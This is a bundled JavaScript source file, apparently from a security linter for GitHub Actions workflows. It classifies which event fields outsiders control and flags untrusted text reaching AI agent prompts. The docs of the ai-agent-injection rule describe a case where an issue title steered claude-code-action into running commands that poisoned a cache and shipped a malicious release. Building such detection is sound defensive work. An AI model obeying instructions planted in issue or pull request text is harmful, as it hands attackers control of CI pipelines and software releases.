    s: "sender.email sender.login"
  },
  workflow_dispatch: {
    a: "ref sender.name workflow",
    s: "sender.email sender.login"
  },
  workflow_run: {
    a: "sender.name workflow.name workflow_run.actor.name workflow_run.display_title workflow_run.head_branch workflow_run.head_commit.author.name workflow_run.head_commit.committer.name workflow_run.head_commit.message workflow_run.head_repository.description workflow_run.head_repository.owner.name workflow_run.name workflow_run.pull_requests.*.base.ref workflow_run.pull_requests.*.head.ref workflow_run.referenced_workflows.*.ref workflow_run.repository.description workflow_run.repository.owner.name workflow_run.triggering_actor.name",
    s: "sender.email sender.login workflow_run.actor.email workflow_run.actor.login workflow_run.head_commit.author.email workflow_run.head_commit.author.username workflow_run.head_commit.committer.email workflow_run.head_commit.committer.username workflow_run.head_repository.full_name workflow_run.head_repository.name workflow_run.head_repository.owner.email workflow_run.head_repository.owner.login workflow_run.pull_requests.*.base.repo.name workflow_run.pull_requests.*.head.repo.name workflow_run.repository.full_name workflow_run.repository.name workflow_run.repository.owner.email workflow_run.repository.owner.login workflow_run.triggering_actor.email workflow_run.triggering_actor.login"
  }
};
var WEBHOOK_ALIASES = { "pull_request_target": "pull_request" };

// server/src/knowledge/contexts.ts
var PR_TRIGGERS = /* @__PURE__ */ new Set(["pull_request", "pull_request_target", "pull_request_review", "pull_request_review_comment"]);
var GITHUB_PROPERTIES = {
  action: { capability: "fixed", source: "the id of the current step or action" },
  action_path: { capability: "fixed", source: "the directory of the running action on the runner" },
  action_ref: { capability: "fixed", source: "the ref of the running action" },
  action_repository: { capability: "fixed", source: "the owner and name of the running action" },
  action_status: { capability: "fixed", source: "the composite action's result" },
  actor: { capability: "structured", source: "the login of the user or app that caused the run (letters, digits, `-` and `[bot]`)" },
  actor_id: { capability: "fixed", source: "the numeric id of the actor" },
  api_url: { capability: "fixed", source: "the REST API URL" },
  base_ref: { capability: "writer", source: "the target branch of the pull request, a branch of this repository" },
  env: { capability: "fixed", source: "the path of the runner's GITHUB_ENV file" },
  event_name: { capability: "fixed", source: "the name of the trigger" },
  event_path: { capability: "fixed", source: "the path of the event payload file on the runner" },
  graphql_url: { capability: "fixed", source: "the GraphQL API URL" },
  head_ref: {
    capability: "arbitrary",
    source: "the source branch of the pull request, named by its author (a branch name may hold `$(...)`, quotes and backticks)"
  },
  job: { capability: "fixed", source: "the id of the current job" },
  output: { capability: "fixed", source: "the path of the GITHUB_OUTPUT file" },
  path: { capability: "fixed", source: "the path of the GITHUB_PATH file" },
  ref: {
    capability: "writer",
    source: "the ref that triggered the run (`refs/pull/N/merge` for pull requests; a branch or tag name pushed by a writer otherwise)"
  },
  ref_name: {
    capability: "writer",
    source: "the short name of the triggering ref (`N/merge` for pull requests; a branch or tag name pushed by a writer otherwise)"
  },
  ref_protected: { capability: "fixed", source: "whether the ref is protected" },
  ref_type: { capability: "fixed", source: "`branch` or `tag`" },
  repository: { capability: "fixed", source: "this repository's owner/name" },
  repository_id: { capability: "fixed", source: "this repository's id" },
  repository_owner: { capability: "fixed", source: "this repository's owner" },
  repository_owner_id: { capability: "fixed", source: "the owner's id" },
  repositoryurl: { capability: "fixed", source: "this repository's git URL" },
  retention_days: { capability: "fixed", source: "the artifact retention setting" },
  run_id: { capability: "fixed", source: "the run's id" },
  run_number: { capability: "fixed", source: "the run's number" },
  run_attempt: { capability: "fixed", source: "the run's attempt number" },
  secret_source: { capability: "fixed", source: "where the secrets come from" },
  server_url: { capability: "fixed", source: "the GitHub server URL" },
  sha: { capability: "fixed", source: "the commit SHA that triggered the run" },
  state: { capability: "fixed", source: "the path of the GITHUB_STATE file" },
  step_summary: { capability: "fixed", source: "the path of the step summary file" },
  token: { capability: "fixed", source: "the job's GITHUB_TOKEN (a secret: keep it out of scripts anyway)" },
  triggering_actor: { capability: "structured", source: "the login of the user who started or re-ran the run" },
  workflow: { capability: "fixed", source: "the workflow's name, written in this file" },
  workflow_ref: { capability: "fixed", source: "the workflow file's ref" },
  workflow_sha: { capability: "fixed", source: "the workflow file's commit SHA" },
  workspace: { capability: "fixed", source: "the checkout directory on the runner" }
};
var RUNNER_ENV = {
  "github.action": "GITHUB_ACTION",
  "github.action_path": "GITHUB_ACTION_PATH",
  "github.actor": "GITHUB_ACTOR",
  "github.actor_id": "GITHUB_ACTOR_ID",
  "github.api_url": "GITHUB_API_URL",
  "github.base_ref": "GITHUB_BASE_REF",
  "github.event_name": "GITHUB_EVENT_NAME",
  "github.event_path": "GITHUB_EVENT_PATH",
  "github.graphql_url": "GITHUB_GRAPHQL_URL",
  "github.head_ref": "GITHUB_HEAD_REF",
  "github.job": "GITHUB_JOB",
  "github.ref": "GITHUB_REF",
  "github.ref_name": "GITHUB_REF_NAME",
  "github.ref_type": "GITHUB_REF_TYPE",
  "github.repository": "GITHUB_REPOSITORY",
  "github.repository_owner": "GITHUB_REPOSITORY_OWNER",
  "github.run_attempt": "GITHUB_RUN_ATTEMPT",
  "github.run_id": "GITHUB_RUN_ID",
  "github.run_number": "GITHUB_RUN_NUMBER",
  "github.server_url": "GITHUB_SERVER_URL",
  "github.sha": "GITHUB_SHA",
  "github.triggering_actor": "GITHUB_TRIGGERING_ACTOR",
  "github.workflow": "GITHUB_WORKFLOW",
  "github.workflow_ref": "GITHUB_WORKFLOW_REF",
  "github.workspace": "GITHUB_WORKSPACE"
};
var EVENT_OVERRIDES = [
  { pattern: /(^|\.)(base|head)\.sha$|^(before|after)$|(^|\.)head_sha$/, capability: "fixed", source: "a commit SHA" },
  {
    pattern: /^pull_request\.base\.(ref|label)$|^workflow_run\.pull_requests\.\*\.base\.ref$/,
    capability: "writer",
    source: "the target branch, a branch of this repository"
  },
  { pattern: /(^|\.)number$|(^|\.)id$/, capability: "fixed", source: "a number" }
];
var OBJECT_NAMES = [
  [/^pull_request\.title$/, "the pull request title"],
  [/^pull_request\.body$/, "the pull request description"],
  [/^pull_request\.head\.ref$/, "the pull request's source branch name"],
  [/^pull_request\.head\.label$/, "the pull request's `owner:branch` label"],
  [/^issue\.title$/, "the issue title"],
  [/^issue\.body$/, "the issue body"],
  [/^comment\.body$/, "the comment text"],
  [/^review\.body$/, "the review text"],
  [/^discussion\.title$/, "the discussion title"],
  [/^discussion\.body$/, "the discussion body"],
  [/commits\.\*\.message$|head_commit\.message$/, "a commit message"],
  [/(author|committer)\.(name|email)$/, "a commit author field (git does not validate it)"],
  [/^workflow_run\.head_branch$/, "the branch of the triggering run (a fork's branch name)"],
  [/^workflow_run\.display_title$/, "the title of the triggering run (a pull request title or commit message)"],
  [/labels?\.(\*\.)?name$/, "a label name"],
  [/^client_payload\./, "the `client_payload` chosen by whoever calls the dispatch API"]
];
function describeEventField(field, capability) {
  for (const [pattern, name] of OBJECT_NAMES) if (pattern.test(field)) return name;
  if (capability === "structured") return "a login, repository name or e-mail address from the event";
  if (capability === "arbitrary") return "free text from the event payload";
  return "a value of the event payload";
}
var fieldCache = /* @__PURE__ */ new Map();
function fieldsOf(event) {
  if (fieldCache.has(event)) return fieldCache.get(event);
  const entry = Object.prototype.hasOwnProperty.call(WEBHOOK_FIELDS, event) ? WEBHOOK_FIELDS[event] : null;
  let sets = null;
  if (entry) {
    const split = (s) => new Set(s ? s.split(" ") : []);
    sets = { arbitrary: split(entry.a), structured: split(entry.s), prefixes: /* @__PURE__ */ new Set() };
    for (const path of [...sets.arbitrary, ...sets.structured]) {
      const parts = path.split(".");
      for (let i = 1; i < parts.length; i++) sets.prefixes.add(parts.slice(0, i).join("."));
    }
  }
  fieldCache.set(event, sets);
  return sets;
}
function matches(set2, field) {
  if (set2.has(field)) return true;
  const parts = field.split(".");
  for (let i = parts.length - 1; i >= 1; i--) if (set2.has(`${parts.slice(0, i).join(".")}.*`)) return true;
  return false;
}
function eventFieldUnder(trigger, field) {
  const event = Object.prototype.hasOwnProperty.call(WEBHOOK_ALIASES, trigger) ? WEBHOOK_ALIASES[trigger] : trigger;
  const sets = fieldsOf(event);
  if (!sets) return trigger === "workflow_call" ? "unknown" : null;
  if (field === "") return "arbitrary";
  if (matches(sets.arbitrary, field)) return "arbitrary";
  if (matches(sets.structured, field)) return "structured";
  if (sets.prefixes.has(field) || field.endsWith(".*")) return "arbitrary";
  return "fixed";
}
var RANK2 = { fixed: 0, unknown: 1, structured: 2, writer: 3, arbitrary: 4 };
var CONTEXT_ALIASES = {
  "github.event.pull_request.base.ref": "github.base_ref",
  "github.event.pull_request.head.ref": "github.head_ref",
  "github.event.ref": "github.ref"
};
function canonicalContextPath(path) {
  return Object.hasOwn(CONTEXT_ALIASES, path) ? CONTEXT_ALIASES[path] : path;
}
function normalizeContextPath(path) {
  return path.toLowerCase().split(".").map((segment) => /^\d+$/.test(segment) ? "*" : segment).join(".");
}
function classifyGithubContext(rawPath, triggers) {
  const path = normalizeContextPath(rawPath);
  const parts = path.split(".");
  const property = parts[1] ?? "";
  if (parts.length === 1)
    return {
      path,
      capability: "arbitrary",
      source: "the whole `github` context, including the event payload",
      outsiderTriggers: outsiders(triggers, () => true)
    };
  if (property !== "event") {
    const known = GITHUB_PROPERTIES[property];
    if (!known) return { path, capability: "unknown", source: `\`github.${property}\` is not a documented property`, outsiderTriggers: [] };
    if (property === "head_ref") {
      const applies = triggers === null || triggers.some((t) => PR_TRIGGERS.has(t) || t === "workflow_call");
      return applies ? { path, capability: "arbitrary", source: known.source, outsiderTriggers: outsiders(triggers, (t) => PR_TRIGGERS.has(t)) } : { path, capability: "fixed", source: "empty: the workflow has no pull request trigger", outsiderTriggers: [] };
    }
    return {
      path,
      capability: known.capability,
      source: known.source,
      outsiderTriggers: known.capability === "structured" ? outsiders(triggers, () => true) : []
    };
  }
  const field = parts.slice(2).join(".");
  for (const override of EVENT_OVERRIDES) {
    if (override.pattern.test(field)) return { path, capability: override.capability, source: override.source, outsiderTriggers: [] };
  }
  const candidates = triggers ?? Object.keys(WEBHOOK_FIELDS).concat("pull_request_target");
  let best = null;
  const outsider = [];
  for (const trigger of candidates) {
    let capability = eventFieldUnder(trigger, field);
    if (capability === null) continue;
    const info = triggerInfo(trigger);
    if (capability === "arbitrary" && info && !info.outsiderCanFire) {
      const mergedText = trigger === "push" && /commits\.\*\.|head_commit\./.test(field);
      if (!mergedText) capability = "writer";
    }
    if ((capability === "arbitrary" || capability === "structured") && (info?.outsiderCanFire || trigger === "push"))
      outsider.push(trigger);
    if (best === null || RANK2[capability] > RANK2[best]) best = capability;
  }
  if (best === null) {
    return {
      path,
      capability: "fixed",
      source: `absent from the payload of ${triggers && triggers.length ? triggers.map((t) => `\`${t}\``).join(", ") : "this workflow's triggers"}`,
      outsiderTriggers: []
    };
  }
  return { path, capability: best, source: describeEventField(field, best), outsiderTriggers: outsider };
}
function outsiders(triggers, applies) {
  if (triggers === null) return [];
  return triggers.filter((t) => applies(t) && triggerInfo(t)?.outsiderCanFire);
}
var SAFE_INPUT_TYPES = /* @__PURE__ */ new Set(["boolean", "number", "choice", "environment"]);
function isInertContext(path) {
  const p = normalizeContextPath(path);
  return /^(runner|job|strategy)(\.|$)/.test(p) || /^steps\.[^.]+\.(outcome|conclusion)$/.test(p) || /^needs\.[^.]+\.result$/.test(p) || /^jobs\.[^.]+\.result$/.test(p);
}

// server/src/knowledge/taint.ts
var SEVERITY_RANK = { informational: 0, low: 1, medium: 2, high: 3 };
function stronger(a, b) {
  if (!a) return b;
  if (!b) return a;
  return SEVERITY_RANK[b.severity] > SEVERITY_RANK[a.severity] ? b : a;
}
function scopeTriggers(file) {
  const workflow = file.workflow;
  if (!workflow) return null;
  const names = workflow.triggers.map((trigger) => trigger.name);
  if (names.length === 0 || names.includes("workflow_call")) return null;
  return names;
}
function scopeOf(file, path) {
  const triggers = scopeTriggers(file);
  if (file.workflow && path[0] === "jobs" && typeof path[1] === "string") {
    const job = file.workflow.job(path[1]) ?? null;
    return { file, job, step: job?.stepAt(path)?.step ?? null, triggers };
  }
  if (file.action && path[0] === "runs" && path[1] === "steps") {
    return { file, job: null, step: file.action.stepAt(path)?.step ?? null, triggers };
  }
  return { file, job: null, step: null, triggers };
}
function v(severity, confidence, persona, capability, reason) {
  return { severity, confidence, persona, capability, reason };
}
function triggerList(triggers) {
  return triggers.map((t) => `\`${t}\``).join(", ");
}
function whoFires(trigger) {
  const firedBy = triggerInfo(trigger)?.firedBy;
  if (firedBy === void 0) return `whoever fires \`${trigger}\``;
  const open = firedBy.endsWith(")") ? firedBy.indexOf(" (") : -1;
  return open === -1 ? firedBy : firedBy.slice(0, open);
}
function assessPath(rawPath, scope, depth = 0) {
  const path = normalizeContextPath(rawPath);
  const root = path.split(".")[0];
  if (isInertContext(path)) return null;
  switch (root) {
    case "github": {
      const info = classifyGithubContext(canonicalContextPath(path), scope.triggers);
      switch (info.capability) {
        case "arbitrary":
          if (info.outsiderTriggers.length > 0) {
            const first = info.outsiderTriggers[0];
            const via = first === "push" && !triggerInfo("push")?.outsiderCanFire ? "the text of a merged pull request (`push`)" : `${whoFires(first)} (${triggerList(info.outsiderTriggers)})`;
            return v(
              "high",
              first === "push" && info.outsiderTriggers.length === 1 ? "medium" : "high",
              "regular",
              "arbitrary",
              `${info.source}, chosen by ${via}`
            );
          }
          if (scope.triggers === null)
            return v("high", "medium", "regular", "arbitrary", `${info.source}, chosen by whoever causes the event`);
          return v("medium", "medium", "regular", "arbitrary", `${info.source}`);
        case "writer":
          if (info.path.startsWith("github.event."))
            return v("medium", "medium", "regular", "writer", `${info.source}, chosen by people with write access`);
          return v("low", "medium", "pedantic", "writer", `${info.source}`);
        case "structured":
          return v("low", "medium", "pedantic", "structured", `${info.source}: restricted characters, but chosen by someone else`);
        case "unknown":
          return v("low", "low", "pedantic", "unknown", info.source);
        default:
          return null;
      }
    }
    case "inputs":
      return assessInput(path, scope);
    case "env":
      return depth > 0 ? v("low", "low", "pedantic", "unknown", "an environment variable") : assessEnv(path, scope);
    case "matrix":
      return assessMatrix(path, scope);
    case "steps":
    case "needs":
    case "jobs":
      return /\.outputs(\.|$)/.test(path) || path.split(".").length <= 2 ? v("informational", "low", "pedantic", "unknown", "an output computed at run time; check where its text comes from") : null;
    case "vars":
      return v("informational", "low", "pedantic", "writer", "a configuration variable, set by repository admins");
    case "secrets":
      return null;
    default:
      return v("low", "low", "pedantic", "unknown", `\`${root}\` is not a context this analysis knows`);
  }
}
function assessInput(path, scope) {
  const name = path.split(".")[1] ?? "";
  const file = scope.file;
  if (file.action) {
    if (!name || name === "*")
      return v("high", "medium", "regular", "arbitrary", "the action's inputs, chosen by every workflow that uses it");
    return v(
      "high",
      "medium",
      "regular",
      "arbitrary",
      `input \`${name}\` of this action, chosen by every workflow that uses it (the Ultralytics compromise fed a branch name through such an input)`
    );
  }
  const workflow = file.workflow;
  if (!workflow) return null;
  let verdict2 = null;
  let declared = false;
  for (const trigger of ["workflow_dispatch", "workflow_call"]) {
    const config = workflow.trigger(trigger)?.config;
    if (!config) continue;
    const input2 = config.child("inputs").get(name);
    if (!input2) continue;
    declared = true;
    const type = scalarText(asMap(input2.value)?.get("type", true)) ?? "string";
    if (SAFE_INPUT_TYPES.has(type.toLowerCase())) continue;
    verdict2 = stronger(
      verdict2,
      trigger === "workflow_call" ? v(
        "medium",
        "medium",
        "regular",
        "arbitrary",
        `\`${type}\` input \`${name}\` of this reusable workflow, chosen by its callers (which may pass pull request or issue text)`
      ) : v("medium", "high", "regular", "writer", `\`${type}\` input \`${name}\`, typed in by whoever dispatches the workflow`)
    );
  }
  if (!declared) return v("low", "low", "pedantic", "unknown", `input \`${name}\` is not declared`);
  return verdict2;
}
function envValue(view, name) {
  if (!view) return { found: false, node: null };
  for (const entry of view.entries) if (entry.key.toLowerCase() === name) return { found: true, node: entry.value };
  return { found: false, node: null };
}
function assessEnv(path, scope) {
  const name = path.split(".")[1] ?? "";
  const levels = [];
  if (scope.step) levels.push(scope.step.env);
  if (scope.job) levels.push(scope.job.env);
  if (scope.file.workflow) levels.push(scope.file.workflow.env);
  for (const level of levels) {
    const { found, node } = envValue(level, name);
    if (!found) continue;
    const text = scalarText(node);
    if (text === null) return asMap(node) || asSeq(node) ? v("low", "low", "pedantic", "unknown", `\`env.${name}\``) : null;
    if (!text.includes("${{")) return null;
    let verdict2 = null;
    for (const occurrence of findExpressions(text)) {
      const ast = occurrence.parsed.ast;
      if (!ast) continue;
      for (const leaf of valueLeaves(ast)) {
        if (leaf.type === "literal") continue;
        const inner = contextPath(leaf, { computedIndexAsWildcard: true });
        const found2 = inner ? assessPath(inner, scope, 1) : null;
        if (found2) verdict2 = stronger(verdict2, { ...found2, reason: `\`env.${name}\`, set from \`${inner}\`: ${found2.reason}` });
      }
    }
    return verdict2;
  }
  return v("low", "low", "pedantic", "unknown", `\`env.${name}\` is not set in this file (it may come from GITHUB_ENV)`);
}
function assessMatrix(path, scope) {
  const key = path.split(".")[1] ?? "";
  const job = scope.job;
  if (!job) return v("low", "low", "pedantic", "unknown", "a matrix value");
  let byKey = MATRIX_SOURCES.get(job);
  if (!byKey) MATRIX_SOURCES.set(job, byKey = /* @__PURE__ */ new Map());
  let source = byKey.get(key);
  if (source === void 0) byKey.set(key, source = matrixValueSource(job, key, scope.file.doc));
  return source === null ? null : v("medium", "low", "regular", "unknown", `matrix value \`${key}\`, ${source}`);
}
var MATRIX_SOURCES = new AttachedCache("matrix-sources", attachmentsOf);
function matrixValueSource(job, key, doc) {
  const node = job.strategy.get("matrix")?.value ?? null;
  const text = scalarText(node);
  if (text !== null) return text.includes("${{") ? "from a matrix computed at run time" : null;
  const map2 = asMap(node);
  if (!map2) return null;
  let expression = false;
  const visit3 = (value) => {
    const s = scalarText(value);
    if (s !== null && s.includes("${{")) expression = true;
    for (const item of seqItems(asSeq(value), doc)) visit3(item);
    for (const entry of mapEntries(asMap(value), doc)) visit3(entry.value);
  };
  for (const entry of mapEntries(map2, doc)) {
    if (entry.key === key || key === "" || key === "*") visit3(entry.value);
    if (entry.key === "include" || entry.key === "exclude") {
      for (const item of seqItems(asSeq(entry.value), doc)) {
        const s2 = scalarText(item);
        if (s2 !== null && s2.includes("${{")) expression = true;
        for (const inner of mapEntries(asMap(item), doc)) if (inner.key === key) visit3(inner.value);
      }
      const s = scalarText(entry.value);
      if (s !== null && s.includes("${{")) expression = true;
    }
  }
  return expression ? "set from an expression" : null;
}
function assessSite(site, scope) {
  const occurrence = site.occurrence;
  const ast = occurrence.terminated ? occurrence.parsed.ast : null;
  if (!ast) return [];
  const verdicts = [];
  for (const leaf of valueLeaves(ast)) {
    if (leaf.type === "literal") continue;
    const path = contextPath(leaf, { computedIndexAsWildcard: true });
    if (!path) continue;
    const verdict2 = assessPath(path, scope);
    if (!verdict2) continue;
    verdicts.push({ start: occurrence.innerStart + leaf.start, end: occurrence.innerStart + leaf.end, path, verdict: verdict2 });
  }
  return verdicts;
}
function singleContext(site) {
  let ast = site.occurrence.terminated ? site.occurrence.parsed.ast : null;
  while (ast && ast.type === "group") ast = ast.expr;
  if (!ast || ast.type !== "property" && ast.type !== "index" && ast.type !== "context") return null;
  const path = contextPath(ast);
  return path ? { node: ast, path } : null;
}

// server/src/rules/ai-agent-injection.ts
var OUTSIDER_TRIGGERS_NOTE = "issues, comments, pull requests, reviews and discussions";
function agentFacts(step, agent, repository, ref2, file, job) {
  const { tools, toolsWhy, toolsSpan } = agentTools(step, agent, ref2);
  const access = agentAccess(step, agent, ref2);
  let { open, openWhy } = access;
  if (!agent.gated && !open && !guardedByCondition(step, job)) {
    const triggers = scopeTriggers(file);
    if (triggers && triggers.some((trigger) => triggerInfo(trigger)?.outsiderCanFire)) {
      open = true;
      openWhy = `${repository} does not check the permissions of whoever triggers it, and no \`if:\` does`;
    }
  }
  return { agent, repository, tools, toolsWhy, toolsSpan, open, openWhy, openSpan: access.openSpan };
}
function guardedByCondition(step, job) {
  const texts = [scalarText(step.if?.value ?? null), scalarText(job?.if?.value ?? null)];
  return texts.some(
    (text) => text !== null && /author_association|\.actor\b|triggering_actor|sender\.login|user\.login|\.labels?\b|label\.name/i.test(text)
  );
}
function severityFor(facts) {
  if (facts.tools === "shell") return "high";
  if (facts.tools === "limited") return facts.open ? "high" : "medium";
  return "low";
}
function lower(confidence) {
  return confidence === "high" ? "medium" : "low";
}
function related(facts) {
  const out = [];
  if (facts.toolsSpan) out.push({ span: facts.toolsSpan, message: `The agent's tools: ${facts.toolsWhy}` });
  if (facts.openSpan) out.push({ span: facts.openSpan, message: `Who may trigger the agent: ${facts.openWhy}` });
  return out;
}
function aggravation(facts) {
  const parts = [];
  if (facts.tools !== "none") parts.push(facts.toolsWhy);
  else parts.push(`${facts.repository} only returns text, so an attacker steers its output`);
  if (facts.open) parts.push(facts.openWhy);
  return parts.join("; ");
}
var READS_EVENT_TEXT = /\b(issue|pull request|PR|comment|discussion|review)s?\b/i;
var aiAgentInjection = {
  id: "ai-agent-injection",
  title: "Untrusted text in the prompt of an AI agent",
  kinds: ["workflow", "action"],
  severity: "high",
  confidence: "high",
  persona: "regular",
  online: false,
  docs: {
    summary: "Text that outsiders write (issue or pull request titles and bodies, comments, reviews, discussions, branch names) reaches the prompt of an AI agent action such as `anthropics/claude-code-action`, `openai/codex-action` or `google-github-actions/run-gemini-cli`.",
    why: "A model cannot tell the workflow author's instructions from instructions hidden in the text it is given. In Cline (2026), an `issues` workflow passed the issue title to `claude-code-action`, open to non-writers and allowed to run `Bash`; an issue title told the agent to run commands, which poisoned a cache used by the nightly publish and shipped a malicious `cline` release.",
    fix: "Do not put outsider text in the prompt: have the agent read it through a read-only tool, keep the agent to read-only tools (no `Bash`, no `danger-full-access`), keep the default write-access check (no `allowed_non_write_users: '*'`), and give the job `permissions:` no wider than the agent needs, with no secrets other than the model key."
  },
  check({ file, report: report2 }) {
    const reportedSteps = /* @__PURE__ */ new Set();
    const factsCache = /* @__PURE__ */ new Map();
    const factsOf = (step, job) => {
      if (factsCache.has(step)) return factsCache.get(step);
      const uses = scalarText(step.uses?.value ?? null);
      let facts = null;
      if (uses) {
        const reference = parseUses(uses);
        if (reference.kind === "remote") {
          const agent = agentActionFor(reference.owner, reference.repo, reference.subpath);
          if (agent) facts = agentFacts(step, agent, reference.repository, reference.ref, file, job);
        }
      }
      factsCache.set(step, facts);
      return facts;
    };
    const kind = file.workflow ? "workflow" : "action";
    for (const site of file.expressions) {
      const path = site.path;
      const base2 = stepKeysStart(path, kind);
      if (base2 === -1 || path.length !== base2 + 2 || path[base2] !== "with" || typeof path[base2 + 1] !== "string") continue;
      if (!site.occurrence.terminated || !site.occurrence.parsed.ast) continue;
      const scope = scopeOf(file, path);
      const step = scope.step;
      if (!step) continue;
      const facts = factsOf(step, scope.job);
      if (!facts) continue;
      const input2 = String(path[base2 + 1]);
      if (!facts.agent.promptInputs.includes(input2.toLowerCase())) continue;
      for (const leaf of assessSite(site, scope)) {
        const verdict2 = leaf.verdict;
        if (verdict2.capability !== "arbitrary" || verdict2.severity !== "high" && verdict2.severity !== "medium") continue;
        reportedSteps.add(step);
        reportLeaf(leaf, input2, facts, scope.triggers !== null);
      }
    }
    function reportLeaf(leaf, input2, facts, knownTriggers) {
      const verdict2 = leaf.verdict;
      const outsider = verdict2.severity === "high";
      const severity = outsider ? severityFor(facts) : "low";
      const confidence = !outsider ? "low" : knownTriggers ? verdict2.confidence : lower(verdict2.confidence);
      report2({
        span: { start: leaf.start, end: leaf.end },
        message: `\`${leaf.path}\` is written into \`${input2}\` of ${facts.repository}, the agent's instructions: ${verdict2.reason}. Whoever writes it can steer the agent (${aggravation(facts)})`,
        severity,
        confidence,
        persona: outsider ? "regular" : "pedantic",
        related: related(facts)
      });
    }
    const triggers = scopeTriggers(file);
    const outsiderTriggers = (triggers ?? []).filter((trigger) => triggerInfo(trigger)?.outsiderCanFire);
    if (!file.workflow || outsiderTriggers.length === 0) return;
    for (const job of file.workflow.jobs) {
      for (const step of job.steps) {
        if (reportedSteps.has(step)) continue;
        const facts = factsOf(step, job);
        if (!facts || !step.uses) continue;
        const prompts = facts.agent.promptInputs.filter((name) => name !== "claude_args" && name !== "codex-args" && name !== "codex_args").map((name) => withValue(step, name)).filter((value) => value !== null);
        const promptFile = withValue(step, "prompt-file") ?? withValue(step, "prompt_file");
        const usesSpan = step.uses.valueSpan;
        const tagMode = facts.agent.tagMode;
        const triggerText = outsiderTriggers.map((t) => `\`${t}\``).join(", ");
        if (prompts.length === 0 && !promptFile && facts.open && tagMode && facts.openSpan) {
          report2({
            span: facts.openSpan,
            message: `${facts.repository} takes its instructions from the triggering comment, issue or pull request, and ${facts.openWhy} (${triggerText}): anyone can instruct the agent (${facts.tools !== "none" ? facts.toolsWhy : "no tools"})`,
            severity: facts.tools === "none" ? "low" : "high",
            confidence: "medium",
            related: facts.toolsSpan ? [{ span: facts.toolsSpan, message: `The agent's tools: ${facts.toolsWhy}` }] : []
          });
          continue;
        }
        if (facts.tools === "none") continue;
        const reading = prompts.find((value) => READS_EVENT_TEXT.test(value.text)) ?? promptFile ?? (facts.open ? prompts[0] : void 0);
        if (!reading) continue;
        report2({
          span: usesSpan,
          message: `${facts.repository} runs under ${triggerText} with ${reading === promptFile ? "a prompt file assembled by the job" : "a prompt about the event"}: text an outsider writes in ${OUTSIDER_TRIGGERS_NOTE} may reach the model (${aggravation(facts)}); check that the agent's tools and token cannot do harm`,
          severity: "medium",
          confidence: "low",
          persona: "auditor",
          related: [{ span: reading.entry.valueSpan, message: "The prompt" }, ...related(facts)]
        });
      }
    }
  }
};

// server/src/rules/anonymous-definition.ts
var anonymousDefinition = {
  id: "anonymous-definition",
  title: "Workflow or job without a name",
  kinds: ["workflow"],
  severity: "low",
  confidence: "high",
  persona: "pedantic",
  online: false,
  docs: {
    summary: "A workflow without `name:` is shown by its file path, a job without `name:` by its id, in the Actions UI, required-check settings and audit logs.",
    why: "Reviewing run history after an incident (which workflow ran, which job used a secret) is slower when names are paths and ids; required status checks bound to unnamed jobs break silently when ids change.",
    fix: "Add `name:` at the top of the workflow and to each job."
  },
  check({ file, report: report2 }) {
    const workflow = file.workflow;
    if (!workflow || !workflow.map) return;
    if (!workflow.has("name")) {
      const first = workflow.entries[0];
      if (first) report2({ span: first.keySpan, message: "This workflow has no `name:`; the Actions UI will show its file path" });
    }
    for (const job of workflow.jobs) {
      if (!job.map || job.has("name")) continue;
      report2({ span: job.idSpan, message: `Job \`${job.id}\` has no \`name:\`; it will be shown by its id`, severity: "informational" });
    }
  }
};

// server/src/knowledge/archived-actions.ts
var ARCHIVED_ACTIONS = [
  { repository: "actions/create-release", replacement: "`gh release create` or softprops/action-gh-release" },
  { repository: "actions/upload-release-asset", replacement: "`gh release upload`" },
  { repository: "actions/setup-ruby", replacement: "ruby/setup-ruby" },
  { repository: "actions/setup-haskell", replacement: "haskell-actions/setup" },
  { repository: "actions/setup-elixir", replacement: "erlef/setup-beam" },
  { repository: "actions-rs/*", replacement: "dtolnay/rust-toolchain and plain `cargo` commands" },
  { repository: "gradle/gradle-build-action", replacement: "gradle/actions/setup-gradle" },
  { repository: "sonarsource/sonarcloud-github-action", replacement: "SonarSource/sonarqube-scan-action" },
  { repository: "semgrep/semgrep-action", replacement: "the `semgrep ci` command in a `semgrep/semgrep` container" },
  { repository: "crazy-max/ghaction-docker-buildx", replacement: "docker/setup-buildx-action" },
  { repository: "marvinpinto/action-automatic-releases", replacement: "`gh release create`" },
  { repository: "marvinpinto/actions" },
  { repository: "tibdex/github-app-token", replacement: "actions/create-github-app-token" },
  { repository: "8398a7/action-slack", replacement: "slackapi/slack-github-action" },
  { repository: "ilshidur/action-slack", replacement: "slackapi/slack-github-action" },
  { repository: "azure/container-scan" },
  { repository: "azure/get-keyvault-secrets", replacement: "the `az keyvault secret show` command" },
  { repository: "azure/k8s-actions", replacement: "azure/k8s-deploy" },
  { repository: "azure/webapps-container-deploy", replacement: "azure/webapps-deploy" },
  { repository: "azure/appservice-actions", replacement: "azure/webapps-deploy" },
  { repository: "azure/container-actions", replacement: "azure/docker-login" },
  { repository: "cirrus-actions/rebase" },
  { repository: "technote-space/get-diff-action", replacement: "dorny/paths-filter or `git diff --name-only`" },
  { repository: "technote-space/auto-cancel-redundant-workflow", replacement: "a `concurrency:` group with `cancel-in-progress: true`" },
  { repository: "jakejarvis/s3-sync-action", replacement: "the `aws s3 sync` command" },
  { repository: "jakejarvis/firebase-deploy-action" },
  { repository: "jakejarvis/lighthouse-action" },
  { repository: "jakejarvis/hugo-build-action" },
  { repository: "jakejarvis/cloudflare-purge-action" },
  { repository: "jakejarvis/backblaze-b2-action" },
  { repository: "paambaati/codeclimate-action" },
  { repository: "repo-sync/pull-request", replacement: "`gh pr create`" },
  { repository: "repo-sync/repo-sync" },
  { repository: "maxheld83/ghpages", replacement: "actions/deploy-pages" },
  { repository: "delaguardo/setup-graalvm", replacement: "graalvm/setup-graalvm" },
  { repository: "artichoke/setup-rust", replacement: "dtolnay/rust-toolchain" },
  { repository: "contributor-assistant/github-action" },
  { repository: "youyo/aws-cdk-github-actions" },
  { repository: "grafana/k6-action", replacement: "grafana/setup-k6-action with grafana/run-k6-action" },
  { repository: "google/mirror-branch-action" },
  { repository: "orf/cargo-bloat-action" },
  { repository: "svenstaro/upx-action" },
  { repository: "hashicorp/terraform-cdk-action" },
  { repository: "scottbrenner/generate-changelog-action" },
  { repository: "fregante/release-with-changelog" },
  { repository: "z0al/dependent-issues" }
];
function archivedAction(owner, repo) {
  const full = `${owner}/${repo}`.toLowerCase();
  const ownerWide = `${owner.toLowerCase()}/*`;
  return ARCHIVED_ACTIONS.find((entry) => entry.repository === full || entry.repository === ownerWide);
}

// server/src/rules/archived-uses.ts
var archivedUses = {
  id: "archived-uses",
  title: "Action from an archived repository",
  kinds: ["workflow", "action"],
  severity: "medium",
  confidence: "high",
  persona: "regular",
